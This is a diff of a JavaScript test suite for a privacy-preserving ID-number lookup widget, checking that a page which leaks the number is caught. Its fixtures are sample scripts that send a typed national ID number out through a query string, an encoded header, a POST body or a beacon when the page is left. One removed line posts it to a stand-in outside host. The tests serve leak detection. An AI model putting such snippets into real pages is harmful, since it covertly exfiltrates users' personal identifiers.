@@ -58,7 +58,8 @@ for (const [where, { open, pages, argon2 }] of Object.entries(VISITS)) {
         const seen = await observedCheck({ widget, proxy, address, nik, open });
         assert.deepEqual(seen.answers, answers);
         assert.deepEqual(seen.after, seen.before, "something was left on the device");
-        assert.deepEqual(seen.early, requests(address, pages), "what was sent before the click");
+        const whole = shardPath(site.dataset(WHOLE), key);
+        assert.deepEqual(seen.early, requests(address, [...pages, "catalogue.json", whole]), "what was sent before the number was asked about");
         assert.deepEqual(audit(proxy, expectedRequests(site, address, key, pages), { nik, key }), []);
       });
     }
@@ -97,20 +98,20 @@ describe("two numbers with the same prefix, one in the list and one not,", () =>
 /** What a page would do that is not ours. Each gives away the number, or one bit. */
 const QUERY = `
   document.getElementById("check").addEventListener("click", () => {
-    fetch("catalogue.json?visitor=" + document.getElementById("nik").value);
+    fetch("catalogue.json?visitor=" + document.getElementById("nik").value.replaceAll(" ", ""));
   })`;
 const HEADER = `
   document.getElementById("check").addEventListener("click", () => {
-    fetch("catalogue.json", { headers: { "X-Visitor": btoa("visitor " + document.getElementById("nik").value) } });
+    fetch("catalogue.json", { headers: { "X-Visitor": btoa("visitor " + document.getElementById("nik").value.replaceAll(" ", "")) } });
   })`;
-const BODY_ELSEWHERE = `
+const BODY = `
   document.getElementById("check").addEventListener("click", () => {
-    const number = BigInt(document.getElementById("nik").value);
-    fetch("http://elsewhere.example/", { method: "POST", body: "v=" + number.toString(16) });
+    const number = BigInt(document.getElementById("nik").value.replaceAll(" ", ""));
+    fetch("catalogue.json", { method: "POST", body: "v=" + number.toString(16) });
   })`;
 const BEACON_ON_LEAVING = `
   let typed = "";
-  document.getElementById("nik").addEventListener("input", (event) => { typed = event.target.value; });
+  document.getElementById("nik").addEventListener("input", (event) => { typed = event.target.value.replaceAll(" ", ""); });
   addEventListener("pagehide", () => navigator.sendBeacon("catalogue.json", [...typed].reverse().join("-")))`;
 const ONE_BIT = `
   {
@@ -146,7 +147,7 @@ describe("a page that leaks is caught", () => {
   const LEAKS = {
     "the number in a query": [QUERY, /^eight or more digits of the number$/],
     "the number in base64 in a header": [HEADER, /^eight or more digits of the number, in base64$/],
-    "the number in hexadecimal in a body, to another host": [BODY_ELSEWHERE, /^the number in hexadecimal$/],
+    "the number in hexadecimal in a body": [BODY, /^the number in hexadecimal$/],
     "the number reversed, in a beacon when the page is left": [BEACON_ON_LEAVING, /^eight or more digits of the number, reversed$/],
     "one bit, in the address of a shard": [ONE_BIT, /^requests: .*\.cnk\?[01]/],
     "the answer, by one request more": [TELLS_THE_ANSWER, /^requests: .*catalogue\.json .*\.cnk .*catalogue\.json .*; expected/],
